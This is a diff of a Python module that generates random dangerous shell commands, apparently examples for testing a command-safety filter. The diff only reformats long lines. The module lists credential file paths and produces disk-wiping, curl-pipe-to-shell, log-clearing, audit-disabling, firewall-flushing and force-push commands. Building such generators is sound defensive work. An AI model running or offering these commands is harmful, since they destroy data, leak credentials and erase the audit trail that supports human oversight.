@@ -1,4 +1,5 @@
-"""What a dangerous command does: each effect is lost for good or for others, leaks, or lets somebody in."""
+"""What a dangerous command does: each effect is lost for good or for others, leaks, or lets
+somebody in."""
 
 from __future__ import annotations
 
@@ -25,8 +26,9 @@ PRECIOUS: Final = (
     "/",
 )
 SECRETS: Final = (
-    "~/.ssh/id_ed25519", "~/.aws/credentials", "~/.netrc", "~/.kube/config", "~/.docker/config.json", "~/.pgpass",
-    "~/.gnupg/private-keys-v1.d", "~/.config/gcloud/application_default_credentials.json", "~/.npmrc", "/etc/shadow",
+    "~/.ssh/id_ed25519", "~/.aws/credentials", "~/.netrc", "~/.kube/config",
+    "~/.docker/config.json", "~/.pgpass", "~/.gnupg/private-keys-v1.d",
+    "~/.config/gcloud/application_default_credentials.json", "~/.npmrc", "/etc/shadow",
     "~/.git-credentials", "~/.config/gh/hosts.yml", "~/.azure/accessTokens.json", ".env",
 )  # fmt: skip
 
@@ -49,7 +51,10 @@ def disk(random: Random) -> str:
     drive = random.choice(("/dev/sda", "/dev/nvme0n1", "/dev/vda", "/dev/sdb1", "/dev/mapper/root"))
     return random.choice(
         (
-            f"dd if=/dev/{random.choice(('zero', 'urandom'))} of={drive} bs={random.choice(('1M', '4M', '64k'))}",
+            (
+                f"dd if=/dev/{random.choice(('zero', 'urandom'))} of={drive} "
+                f"bs={random.choice(('1M', '4M', '64k'))}"
+            ),
             f"mkfs.{random.choice(('ext4', 'xfs', 'btrfs'))} {drive}",
             f"wipefs -a {drive}",
             f"blkdiscard {drive}",
@@ -80,7 +85,10 @@ def fetch_and_run(random: Random) -> str:
     url = f"http://{host(random)}/{word(random)}.sh"
     return random.choice(
         (
-            f"curl -fsSL {url} | {random.choice(('bash', 'sh', 'sudo bash', 'bash -s -- -y', 'zsh'))}",
+            (
+                f"curl -fsSL {url} | "
+                f"{random.choice(('bash', 'sh', 'sudo bash', 'bash -s -- -y', 'zsh'))}"
+            ),
             f"wget -qO- {url} | sh",
             f"bash <(curl -s {url})",
             f'sh -c "$(curl -fsSL {url})"',
@@ -122,13 +130,19 @@ def disarm(random: Random) -> str:
     """Take rights and guards away."""
     return random.choice(
         (
-            f"chmod -R {random.choice(('777', 'a+rwx', '0777'))} {random.choice(('/', '/etc', '/usr', '/var'))}",
+            (
+                f"chmod -R {random.choice(('777', 'a+rwx', '0777'))} "
+                f"{random.choice(('/', '/etc', '/usr', '/var'))}"
+            ),
             f"chown -R {user(random)} {random.choice(('/', '/etc', '/usr'))}",
             f"chmod u+s /bin/{random.choice(('bash', 'dash', 'sh'))}",
             "setenforce 0",
             "iptables -F",
             "ufw disable",
-            f"history -c && rm -f ~/.bash_history /var/log/{random.choice(('auth.log', 'syslog', 'secure'))}",
+            (
+                f"history -c && rm -f ~/.bash_history "
+                f"/var/log/{random.choice(('auth.log', 'syslog', 'secure'))}"
+            ),
             "systemctl stop auditd",
         )
     )
@@ -139,7 +153,10 @@ def lose_for_others(random: Random) -> str:
     what = name(random)
     return random.choice(
         (
-            f"git push {random.choice(('--force', '-f'))} origin {random.choice(('main', 'master', 'release'))}",
+            (
+                f"git push {random.choice(('--force', '-f'))} origin "
+                f"{random.choice(('main', 'master', 'release'))}"
+            ),
             f"git push origin --delete {random.choice(('main', 'master', 'production'))}",
             f"kubectl delete namespace {random.choice(('production', 'prod', what))}",
             f"aws s3 rm s3://{what}-backups --recursive",
